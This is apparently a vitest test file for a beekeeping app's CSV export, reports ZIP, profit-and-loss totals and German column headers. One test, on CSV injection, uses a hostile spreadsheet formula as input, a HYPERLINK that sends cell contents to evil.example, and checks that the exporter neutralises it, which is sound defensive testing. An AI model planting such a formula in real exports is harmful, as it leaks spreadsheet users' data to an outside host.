import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { LOCALES, type Locale } from '../../../shared/i18n/locales';
import type { FinancialRecord } from '../../../shared/schemas/finance';
import type { AccountData } from './account-data';
import { csvOf, decimalOfCents, money } from './csv';
import { ALL_CATEGORIES, ALL_MONTHS, REPORT_FILES, profitAndLoss, readmeOf, reportFiles, reportsZip } from './reports';

const finance = (
  type: FinancialRecord['type'],
  category: FinancialRecord['category'],
  amount: number,
  transactionDate: string,
): FinancialRecord => ({
  id: `${type}-${transactionDate}`,
  createdAt: `${transactionDate}T10:00:00.000Z`,
  version: `${transactionDate}T10:00:00.000Z`,
  type,
  category,
  amount,
  description: category,
  transactionDate,
  hiveId: null,
  hiveName: null,
  apiaryId: null,
  apiaryName: null,
  treatmentId: null,
});

const emptyAccount: AccountData = {
  exportedAt: '2026-11-27T12:00:00.000Z',
  profile: {
    id: 'user-1',
    email: 'ann@example.com',
    username: null,
    firstName: 'Ann',
    lastName: null,
    bio: null,
    profilePicture: null,
    createdAt: '2026-01-01T00:00:00.000Z',
    subscriptionPlan: 'pro',
    subscriptionStatus: 'active',
  },
  preferences: {
    units: 'imperial',
    defaultHiveType: 'langstroth',
    notifications: { taskReminders: true, treatmentReminders: true, productNews: false, scaleAlerts: true },
    language: null,
    timezone: 'Europe/London',
  },
  apiaries: [],
  hives: [],
  inspections: [],
  treatments: [],
  tasks: [],
  production: [],
  finances: [],
  feedback: [],
  photos: [],
};

describe('CSV cells', () => {
  it('writes money as a decimal with two places from whole cents', () => {
    expect(decimalOfCents(1234)).toBe('12.34');
    expect(decimalOfCents(5)).toBe('0.05');
    expect(decimalOfCents(-4525)).toBe('-45.25');
    expect(decimalOfCents(0)).toBe('0.00');
    expect(money(0.1 + 0.2)).toBe('0.30');
    expect(money(null)).toBe('');
  });

  it('starts with a byte order mark and a header row, quotes what needs it, and writes booleans as words', () => {
    const csv = csvOf(
      [
        { header: 'name', cell: (row: { name: string; seen: boolean; note: string | null }) => row.name },
        { header: 'seen', cell: (row) => row.seen },
        { header: 'note', cell: (row) => row.note },
      ],
      [
        { name: 'Bramble, "east"', seen: true, note: null },
        { name: 'Zoë', seen: false, note: 'two\nlines' },
      ],
    );
    expect(csv).toBe('\uFEFFname,seen,note\r\n"Bramble, ""east""",true,\r\nZoë,false,"two\nlines"\r\n');
  });

  it('neutralises a text that would start a formula, and leaves negative amounts numbers (OWASP CSV injection)', () => {
    const csv = csvOf(
      [
        { header: 'name', cell: (row: { name: string; amount: string }) => row.name },
        { header: 'amount', cell: (row) => row.amount },
      ],
      [
        { name: '=HYPERLINK("http://evil.example/?"&A1,"x")', amount: '-12.50' },
        { name: '+1 frame of brood', amount: '3.00' },
        { name: '-wax', amount: '-0.05' },
        { name: '@SUM(A1:A9)', amount: '0.00' },
        { name: '\tTabbed', amount: '1.00' },
        { name: 'Golden Comb', amount: '2.00' },
      ],
    );
    expect(csv.split('\r\n').slice(1, -1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-12.50`,
      "'+1 frame of brood,3.00",
      "'-wax,-0.05",
      "'@SUM(A1:A9),0.00",
      "'\tTabbed,1.00",
      'Golden Comb,2.00',
    ]);
  });
});

describe('the profit and loss', () => {
  it('adds up each month, each category and each year in cents, oldest year first', () => {
    const rows = profitAndLoss([
      finance('income', 'honey_sales', 0.1, '2026-03-05'),
      finance('income', 'honey_sales', 0.2, '2026-03-20'),
      finance('expense', 'equipment', 10, '2026-01-02'),
      finance('expense', 'feed', 2.5, '2025-12-31'),
    ]);
    expect(rows).toEqual([
      { year: '2025', month: '12', category: ALL_CATEGORIES, incomeCents: 0, expenseCents: 250 },
      { year: '2025', month: ALL_MONTHS, category: 'feed', incomeCents: 0, expenseCents: 250 },
      { year: '2025', month: ALL_MONTHS, category: ALL_CATEGORIES, incomeCents: 0, expenseCents: 250 },
      { year: '2026', month: '01', category: ALL_CATEGORIES, incomeCents: 0, expenseCents: 1000 },
      { year: '2026', month: '03', category: ALL_CATEGORIES, incomeCents: 30, expenseCents: 0 },
      { year: '2026', month: ALL_MONTHS, category: 'equipment', incomeCents: 0, expenseCents: 1000 },
      { year: '2026', month: ALL_MONTHS, category: 'honey_sales', incomeCents: 30, expenseCents: 0 },
      { year: '2026', month: ALL_MONTHS, category: ALL_CATEGORIES, incomeCents: 30, expenseCents: 1000 },
    ]);
  });

  it('is empty without financial records', () => {
    expect(profitAndLoss([])).toEqual([]);
  });
});

describe('the reports ZIP', () => {
  it('holds README.txt and each report with its header row, even for an account with no records', () => {
    const files = unzipSync(reportsZip(emptyAccount));
    expect(Object.keys(files).sort()).toEqual(['README.txt', ...Object.keys(REPORT_FILES)].sort());
    expect(strFromU8(files['hives.csv'] ?? new Uint8Array())).toMatch(/^id,name,apiary_id,apiary,status,/);
    expect(strFromU8(files['profit-and-loss.csv'] ?? new Uint8Array())).toBe(
      'year,month,category,income,expenses,profit\r\n',
    );
  });

  it('says in README.txt whose export it is and what every file holds', () => {
    const readme = readmeOf(emptyAccount);
    expect(readme).toContain('ann@example.com');
    for (const file of Object.keys(REPORT_FILES)) expect(readme).toContain(`${file}: `);
  });

  it("speaks the beekeeper's language: German headers and README, codes, ISO dates and their names as written", () => {
    const german: AccountData = {
      ...emptyAccount,
      preferences: { ...emptyAccount.preferences, language: 'de' },
      finances: [finance('income', 'honey_sales', 120.5, '2026-07-04')],
    };
    const files = reportFiles(german);
    expect(files['hives.csv']).toMatch(/^\uFEFFID,Name,Bienenstand-ID,Bienenstand,Status,Beutentyp,Rähmchen,/);
    expect(files['inspections.csv']).toContain(',Weiselzellen,Stifte vorhanden,Offene Brut,Verdeckelte Brut,');
    expect(files['finances.csv']).toContain('\r\nincome-2026-07-04,2026-07-04,income,honey_sales,120.50,');
    expect(files['profit-and-loss.csv'].split('\r\n')).toEqual([
      '\uFEFFJahr,Monat,Kategorie,Einnahmen,Ausgaben,Gewinn',
      '2026,07,gesamt,120.50,0.00,120.50',
      '2026,gesamt,honey_sales,120.50,0.00,120.50',
      '2026,gesamt,gesamt,120.50,0.00,120.50',
      '',
    ]);
    const readme = readmeOf(german);
    expect(readme).toContain('HiveKeeper-Export von ann@example.com, erstellt 2026-11-27T12:00:00.000Z.');
    expect(readme).toContain('IDs verbinden die Dateien: Volk-ID in inspections.csv ist ID in hives.csv.');
    expect(readme).toContain('als englische Codes');
    expect(readme).toContain(
      'profit-and-loss.csv: Einnahmen, Ausgaben und Gewinn je Jahr: jeder Monat (Kategorie „gesamt“)',
    );
    expect(readme).not.toMatch(/Every|Your|dollars/);
  });

  it.each(LOCALES)('names each column of a file once in %s, on one line without a comma', (language: Locale) => {
    const files = reportFiles({ ...emptyAccount, preferences: { ...emptyAccount.preferences, language } });
    for (const [file, csv] of Object.entries(files)) {
      const headers = csv
        .replace(/^\uFEFF/, '')
        .replace(/\r\n$/, '')
        .split(',');
      expect(new Set(headers).size, `${file} in ${language}`).toBe(headers.length);
      for (const header of headers) expect(header, `${file} in ${language}`).toMatch(/^[^"\r\n]+$/);
    }
  });
});
